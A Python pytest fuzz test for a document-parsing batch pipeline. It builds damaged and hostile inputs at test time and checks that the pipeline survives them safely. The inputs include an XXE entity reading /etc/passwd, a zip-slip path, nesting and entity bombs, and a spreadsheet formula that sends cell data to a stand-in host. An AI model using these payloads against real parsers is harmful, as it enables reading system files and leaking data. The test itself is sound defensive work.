"""A fuzz run of our own: hostile files built at test time (nothing binary is committed), mixed with good
ones, through the batch with two workers. One row per input, the good rows as a clean run gives them,
no formula cell, no process left behind, every file within its deadline, and no file called a bug.

A sample runs by default; `-m slow` runs the big one."""

from __future__ import annotations

import io
import random
import shutil
import subprocess
import time
import zipfile

import pandas as pd
import pytest

from pipeline.batch import run_batch

from conftest import CORPUS

GOOD = ["002_phatthalung2_2557_levels.docx", "004_udonthani2_2565_web.html", "pdf_layout_percent_summary.pdf"]
SEEDS_FOR_MUTATION = ["esa2557_review_cases.docx", "esa2560_html_inputs.html", "pdf_esa2557_level_matrix.pdf",
                      "layout_realistic_sar.docx"]


def _mutations(rng: random.Random, data: bytes, n: int):
    """Byte flips, truncations, duplicated and deleted spans: what damaged archives hold."""
    for k in range(n):
        b = bytearray(data)
        kind = k % 4
        if kind == 0:
            for _ in range(rng.randint(1, 40)):
                i = rng.randrange(len(b))
                b[i] = rng.randrange(256)
        elif kind == 1:
            b = b[: rng.randrange(1, len(b))]
        elif kind == 2:
            i = rng.randrange(len(b))
            b[i:i] = b[i: i + rng.randint(1, 5000)]
        else:
            i = rng.randrange(len(b))
            del b[i: i + rng.randint(1, 5000)]
        yield bytes(b)


def _docx_with(parts: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, content in parts.items():
            z.writestr(name, content)
    return buf.getvalue()


def build(folder, n_mutations: int, seed: int = 13, pdfs: bool = True) -> int:
    rng = random.Random(seed)
    files: dict[str, bytes] = {}
    for name in SEEDS_FOR_MUTATION:
        if name.endswith(".pdf") and not pdfs:
            continue  # a damaged PDF text layer goes to OCR, seconds a page: the big run has them
        data = (CORPUS / name).read_bytes()
        suffix = name.rsplit(".", 1)[1]
        for k, m in enumerate(_mutations(rng, data, n_mutations)):
            files[f"mut_{name.split('.')[0]}_{k}.{suffix}"] = m
    files["xxe.docx"] = _docx_with({
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                             '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                             "<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"})
    files["slip.docx"] = _docx_with({"../../evil.txt": "x", "word/document.xml": "<w:document/>"})
    files["deep.html"] = ("<div>" * 50_000).encode()
    files["entities.html"] = ("<p>" + "&amp;" * 100_000 + "</p>").encode()
    files["formula.html"] = '<p>มาตรฐานที่ 1 =HYPERLINK("http://x.invalid/?"&A1,"x")</p><p>@SUM(1)</p>'.encode()
    files["empty.pdf"] = b""
    files["random.doc"] = bytes(rng.randrange(256) for _ in range(5000))
    files["text_named.pdf"] = "ตัวบ่งชี้ที่ 1 ระดับดี".encode()
    files["rtf_bin.rtf"] = b"{\\rtf1\\ansi {\\bin2147483647 abc}}"
    files["name with\nnewline.html"] = b"<p>x</p>"
    files[b"\xca\xd3\xc3.html".decode("utf-8", "surrogateescape")] = "<p>มาตรฐานที่ 1</p>".encode()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    for name in GOOD:
        shutil.copy(CORPUS / name, folder / name)
    return len(files) + len(GOOD)


def _run_fuzz(tmp_path, n_mutations: int, pdfs: bool) -> None:
    src = tmp_path / "in"
    src.mkdir()
    total = build(src, n_mutations, pdfs=pdfs)
    before = set(subprocess.run(["pgrep", "-f", "soffice"], capture_output=True, text=True).stdout.split())
    s = run_batch([src], tmp_path / "out", workers=2, timeout=10, progress=False)
    docs = pd.read_parquet(tmp_path / "out" / "documents.parquet")
    assert s.files == total and len(docs) == s.unique  # one row per distinct input
    assert not docs["error"].fillna("").str.contains("this is a bug").any(), \
        docs[docs["error"].fillna("").str.contains("this is a bug")][["file", "error"]].to_string()
    # LibreOffice hangs on a 33-byte RTF with a huge \\bin: stopped at the deadline, the batch went on;
    # nothing else may take that long
    late = docs[docs["error"].fillna("").str.contains("timed out")]["file"].map(lambda f: f.rsplit("/", 1)[-1])
    assert set(late) <= {"rtf_bin.rtf"}, list(late)
    clean = run_batch([CORPUS / g for g in GOOD], tmp_path / "clean", workers=1, progress=False)
    assert clean.counts["ok"] + clean.counts["needs_review"] == len(GOOD)
    for table in ("indicators", "standards"):
        fuzzed = pd.read_parquet(tmp_path / "out" / f"{table}.parquet")
        fuzzed = fuzzed[fuzzed["file"].map(lambda f: f.rsplit("/", 1)[-1] in GOOD)].copy()
        ref = pd.read_parquet(tmp_path / "clean" / f"{table}.parquet")
        for df in (fuzzed, ref):
            df["file"] = df["file"].map(lambda f: f.rsplit("/", 1)[-1])
        keys = ["file", "standard"] + (["indicator"] if table == "indicators" else [])
        pd.testing.assert_frame_equal(fuzzed.sort_values(keys).reset_index(drop=True),
                                      ref.sort_values(keys).reset_index(drop=True))
    csv = (tmp_path / "out" / "standards.csv").read_text(encoding="utf-8-sig")
    assert "\n=" not in csv and ",=" not in csv  # no formula cell
    for _ in range(50):  # a process killed a moment ago may take that moment to be gone
        after = set(subprocess.run(["pgrep", "-f", "soffice"], capture_output=True, text=True).stdout.split())
        if after <= before:
            break
        time.sleep(0.1)
    assert after <= before, "a LibreOffice was left behind"
    assert not (tmp_path / "evil.txt").exists() and not (tmp_path / "in" / ".." / ".." / "evil.txt").exists()


def test_fuzz_sample(tmp_path):
    _run_fuzz(tmp_path, n_mutations=8, pdfs=False)


@pytest.mark.slow
def test_fuzz_big(tmp_path):
    _run_fuzz(tmp_path, n_mutations=40, pdfs=True)
